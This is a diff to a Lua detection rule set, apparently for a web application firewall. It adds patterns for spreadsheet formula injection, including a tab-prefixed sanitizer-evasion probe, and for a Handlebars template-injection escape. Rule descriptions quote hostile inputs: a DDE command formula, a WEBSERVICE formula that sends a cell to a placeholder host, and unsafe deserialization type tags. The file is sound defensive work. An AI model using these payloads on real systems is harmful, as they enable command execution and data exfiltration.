@@ -101,7 +101,8 @@ _M.RULES = {
           .. "probe's shape, and a note's template's" },
     { id = "formula-injection", severity = "critical", pl = 1,
       desc = "spreadsheet formula that runs a command (DDE: =cmd|'/c calc'!A0, "
-          .. "=DDE(...)) or sends a cell out (=WEBSERVICE(\"//host/?\"&A1))" },
+          .. "=DDE(...)), sends a cell out (=WEBSERVICE(\"//host/?\"&A1)) or follows "
+          .. "a leading tab with numbers alone (a sanitizer's evasion probed)" },
     { id = "code-type-tag", severity = "critical", pl = 1,
       desc = "serialization type tag naming a class or callable (YAML !!python/object:, "
           .. "!ruby/object:, !!java.x.Y, Json.NET $type, pickle globals)" },
@@ -1083,7 +1084,8 @@ local RE_URL = [=[^[a-z][a-z0-9+.-]*://[^\s"'<>`{}|\\^$]+\z]=]
 
 rules.buffer("code_names", function() return false end)
 
-local GATE = [=[[<?$\[{}()%#'"\\!@]|\.\s*[a-z]|__|://|processbuilder|while|\n]=]
+-- (a formula after a leading tab or carriage return too: formula-injection's)
+local GATE = [=[[<?$\[{}()%#'"\\!@]|\.\s*[a-z]|__|://|processbuilder|while|\n|^[\t\r]+[=+\-]]=]
 
 
 -- Each path segment as a whole value: a call of a PHP function.
@@ -1597,6 +1599,12 @@ local RULES = rules.compile({
     -- (every form holds a "(", "[", "<" or "}": no plain value matches)
     { id = "dotnet-injection", field = "cmp", pattern = RE_DOTNET,
       needles = { "process", "objectdataprovider", "assembly" }, plain = false },
+    -- (a Handlebars block over a string literal, '{{#with "s" as |x|}}': a
+    -- literal has nothing to show but its prototype's members, the first
+    -- step of that sandbox's escape; a block over a context's field is
+    -- a template's own)
+    { id = "ssti", field = "cmp", needles = { "#with" }, plain = false,
+      pattern = [=[\{\{~?\s*#with\s+(?:"[^"}]*"|'[^'}]*')[^}]*\}\}]=] },
     { id = "ssti", field = "cmp", pattern = RE_SSTI, check = template_expression,
       needles = { "{{", "#{", "<%", "${", "{%", "*{", "~{", "@{", "@(", "<#", "[%", "?new",
                   "freemarker", "smarty",
@@ -1615,6 +1623,12 @@ local RULES = rules.compile({
     { id = "formula-injection", needles = { "|", "dde", "//", "call", "register", "exec" },
       pattern = RE_FORMULA,
       plain = false },
+    -- (or, after a tab or a carriage return that opens the value, a
+    -- formula of numbers alone, "\t=3*4": a probe of whether a sanitizer
+    -- that reads the first byte only can be passed; a sheet's own
+    -- formula reads cells, "\t=SUM(B2:B9)", and passes)
+    { id = "formula-injection", needles = { "\t", "\r" }, plain = false,
+      pattern = [=[^[\t\r]+[=+\-@]\s*\d+(?:\.\d+)?\s*[-+*/^&]\s*\(?\d]=] },
     { id = "ssti-directive", field = "cmp", needles = { "{%" },
       pattern = [=[\{%-?\s*(?:set|for|if|with|filter|raw)\b]=] },
     { id = "code-type-tag", pattern = RE_TYPE_TAG,
